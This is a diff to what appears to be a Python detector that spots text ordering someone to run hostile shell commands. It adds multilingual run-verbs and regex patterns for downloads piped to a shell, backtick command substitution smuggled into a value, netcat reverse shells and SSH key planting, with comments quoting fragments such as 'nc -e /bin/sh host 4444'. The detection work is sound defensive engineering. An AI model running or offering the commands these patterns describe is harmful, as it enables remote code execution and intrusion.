@@ -21,7 +21,9 @@ _RUN_VERBS = ("run", "execute", "exec", "paste", "type", "enter", "evaluate", "e
               # (2026-12-06) the infinitive, which a verb-final order puts before the command
               # ("soll folgenden Befehl in der Konsole ausführen: wget ... | sudo bash")
               "ausführen", "auszuführen", "ejecutar", "exécuter", "eseguire", "executar",
-              "выполнить", "запустить")
+              "выполнить", "запустить",
+              # (round 16) more forms: the subjunctive and infinitives that orders use
+              "esegua", "eseguite", "lancer", "lancez", "rodar", "rode", "uruchom")
 # (round 9) the gap between an order to run and its command stays in one sentence: a pentest
 # note's "could be made to run arbitrary shell commands. Example: 'curl ... | sh'" or "...
 # | sh`. Recommendation: run them in a sandbox" orders nothing
@@ -51,11 +53,19 @@ SPECS: tuple[_Spec, ...] = (
               _p(("curl", "wget"), r"\b[^\n|`]{0,120}?(?:https?://)?(?:\d{1,3}\.){3}\d{1,3}"
                  r"[^\n|`]{0,80}?\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh\b"),
               _p((r"\$\(",), r"\s*(?:curl|wget)\b[^)\n]{0,200}\)", word=False),
+              # (round 16) a download piped to a shell in backticks glued to a value: shell
+              # command substitution inside an argument ("branch = main`curl -s ...|sh`"),
+              # not a code span set in a sentence
+              _p(("`",), r"(?:curl|wget)\b[^`\n]{0,200}?\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh\s*`",
+                 word=False, before=r"[\w=/.-]\Z"),
               _p(("bash", "sh", "zsh"), r"\s+-c\s+[\"']?\$\(\s*(?:curl|wget)\b"),
               _p(("eval",), r"\s+[\"']?\$\(\s*(?:curl|wget|echo\s+[\w+/=]{8,}\s*\|\s*base64)"),
               # a reverse shell, a planted key, a wiped disk
               _p(("nc", "ncat", "netcat"), r"\s+(?:-\w+\s+)*[\w.-]{3,}\s+\d{2,5}\s+(?:-\w+\s+)*"
                  r"-[ec]\s+/bin/(?:ba)?sh" + _E),
+              # (round 16) ... with its flag first: "nc -e /bin/sh host 4444"
+              _p(("nc", "ncat", "netcat"), r"\s+(?:-\w+\s+)*-[ec]\s+/bin/(?:ba)?sh\s+[\w.-]{3,}\s+"
+                 r"\d{2,5}" + _E),
               _p(("bash",), r"\s+-i\s+>&\s*/dev/tcp/"),
               _p(("/dev/tcp/",), word=False),
               _p((">>",), r"\s*~?/?(?:[\w.-]+/)*\.ssh/authorized_keys", word=False),
